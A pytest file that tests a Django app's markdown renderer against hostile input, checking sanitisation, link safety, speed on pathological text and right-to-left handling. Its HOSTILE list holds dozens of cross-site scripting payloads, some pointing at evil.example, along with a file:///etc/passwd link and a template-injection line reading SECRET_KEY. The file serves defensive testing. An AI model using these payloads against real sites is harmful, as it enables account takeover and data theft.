"""What people and models write is shown, and never does anything."""

import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings
from django.template import Context, Template

from rating.rendering import (
    ADDED_ATTRIBUTES,
    ATTRIBUTES,
    BLOCKS,
    INLINE,
    MAX_MARKDOWN,
    code_styles,
    render_markdown,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<b hx-get=/account/logout/ hx-trigger=load>x</b>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</div></main><h1>Your session ended</h1>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/account/logout/)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](https://a.example \"' onmouseover=alert(1) x='\")",
    '![x" onerror="alert(1)](x)',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "|<script>|\n|---|\n|<img src=x onerror=alert(1)>|",
    "> <script>alert(1)</script>\n> > [x](javascript:alert(1))",
    "*[x*](javascript:alert(1))**<b onclick=alert(1)>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{ settings.SECRET_KEY }}{% load static %}",
]
# Short pieces that make a careless parser slow, nested or silent when repeated.
REPEATED = [
    ">", "> ", "[", "[a](", "![a](b)", "[[a](b)", "*a_ ", "**a", "`a``", "- x ", "1. ", "|a", "<a:", "&",
    "&amp;", "_a", "~~a", "```x\n", "\\", "<", '[a](b "', "a\n", "[a]: b\n", "    a\n", "\u202ea", "<!--",
    "a@b.c ", "# ",
]  # fmt: skip


class Reader(HTMLParser):
    """Collects what a browser would see: tags, attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def assert_harmless(html: str) -> Reader:
    page = Reader(html)
    for tag, attributes in page.tags:
        assert tag in {*BLOCKS, *INLINE}, tag
        allowed = (
            ATTRIBUTES.get(tag, set())
            | set(ADDED_ATTRIBUTES.get(tag, {}))
            | ({"rel"} if tag == "a" else set())
        )
        assert set(attributes) <= allowed, (tag, attributes)
        if "href" in attributes:
            assert attributes["href"].startswith(("https://", "http://", "mailto:")), attributes
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
    return page


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_does_nothing(text):
    assert_harmless(render_markdown(text))


@pytest.mark.parametrize("text", HOSTILE[:22])
def test_html_in_a_text_is_shown_as_written(text):
    assert Reader(render_markdown(text)).text.strip() == text


@pytest.mark.parametrize("piece", REPEATED)
def test_ten_thousand_repetitions_are_quick_harmless_and_seen(piece):
    text = (piece * 10_000)[:MAX_MARKDOWN]
    start = time.process_time()
    html = render_markdown(text)
    assert time.process_time() - start < 2
    assert assert_harmless(html).text.strip()


def test_a_wide_table_with_many_short_rows_is_quick():
    text = "|" + "a|" * 128 + "\n|" + "-|" * 128 + "\n" + "||\n" * 12_000
    start = time.process_time()
    html = render_markdown(text)
    assert time.process_time() - start < 1
    assert html.startswith('<pre class="plain"')


@pytest.mark.parametrize(
    "language", ["python", "html", "javascript", "java", "ruby", "yaml", "c", "perl", "csharp"]
)
@pytest.mark.parametrize("piece", ["\t", "s{", "a.", '"', "/*", "_", "1e", "<a ", "a"])
def test_hostile_code_is_quick(language, piece):
    start = time.process_time()
    render_markdown(f"```{language}\n{piece * 1_900}\n```\n" * 3)
    assert time.process_time() - start < 2


def test_text_that_is_too_long_is_shown_as_written():
    text = "**bold** <script>\n" * 3_000
    html = render_markdown(text)
    assert html.startswith('<pre class="plain" dir="auto">')
    assert Reader(html).text == text


def test_a_very_long_line_is_whole():
    assert Reader(render_markdown("x" * MAX_MARKDOWN)).text.strip() == "x" * MAX_MARKDOWN


def test_text_nested_too_deeply_is_shown_as_written_not_dropped():
    text = "> " * 60 + "the point"
    assert Reader(render_markdown(text)).text == text


def test_a_text_of_which_nothing_would_be_seen_is_shown_as_written():
    text = '[a]: https://a.example "hidden"'
    assert Reader(render_markdown(text)).text == text


@pytest.mark.parametrize("bad", [chr(0), chr(0xD800), chr(0xDFFF)])
def test_nul_and_surrogates_are_replaced(bad):
    html = render_markdown(f"a{bad}b `c{bad}d`\n\n```\n{bad}\n```")
    html.encode()
    assert bad not in html
    assert Reader(html).text.count("\ufffd") == 3
    assert bad not in render_markdown(bad * (MAX_MARKDOWN + 1))


def test_emptiness_is_fine():
    assert Reader(render_markdown("")).text == ""
    assert Reader(render_markdown(" \n\n ")).text.strip() == ""


def test_each_block_has_its_own_direction():
    page = Reader(render_markdown("# שלום\n\n\u202eevil\n\n- a\n\n> b\n\n|c|\n|-|\n|d|\n\n```\ne\n```"))
    blocks = [(tag, attributes) for tag, attributes in page.tags if tag in BLOCKS]
    assert {tag for tag, _ in blocks} == {"h1", "p", "li", "blockquote", "th", "td", "pre"}
    assert all(attributes["dir"] == "auto" for _, attributes in blocks)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("**b** *i* ~~s~~ `c`", "<strong>b</strong> <em>i</em> <s>s</s> <code>c</code>"),
        ("# Title", '<h1 dir="auto">Title</h1>'),
        ("- a\n- b", '<li dir="auto">b</li>'),
        ("3. a\n4. b", '<ol start="3">'),
        ("|a|b|\n|:-|-:|\n|1|2|", '<td dir="auto">2</td>'),
        ("> q", '<blockquote dir="auto">'),
        ("one\ntwo", "one<br>\ntwo"),
        ("a\n\n---", "<hr>"),
        ("[x](https://a.example/?a=1&b=2)", 'href="https://a.example/?a=1&amp;b=2"'),
        ("[x](mailto:a@b.example)", 'href="mailto:a@b.example"'),
        ("```python\ndef f(): ...\n```", '<span class="tok-k">def</span>'),
        ("```py\ndef f(): ...\n```", 'class="language-python"'),
        ("```brainfog\n<x>\n```", "<pre dir=\"auto\"><code>&lt;x&gt;\n</code></pre>"),
        ("2 < 3 & 4 > 1", "2 &lt; 3 &amp; 4 &gt; 1"),
        ("https://a.example stays text", '<p dir="auto">https://a.example stays text</p>'),
    ],
)  # fmt: skip
def test_what_should_render(text, expected):
    html = render_markdown(text)
    assert_harmless(html)
    assert expected in html


def test_an_image_becomes_a_link_that_loads_nothing():
    page = Reader(render_markdown("![a cat](https://a.example/cat.png)"))
    assert [tag for tag, _ in page.tags] == ["p", "a"]


def test_the_filter_is_the_renderer():
    shown = Template("{% load rendering %}{{ text|markdown }}").render(Context({"text": "**b**<script>"}))
    assert shown == render_markdown("**b**<script>")


def test_the_committed_style_sheet_is_what_the_command_writes():
    assert Path(settings.BASE_DIR, "static/css/ratchet.css").read_text().endswith(code_styles())
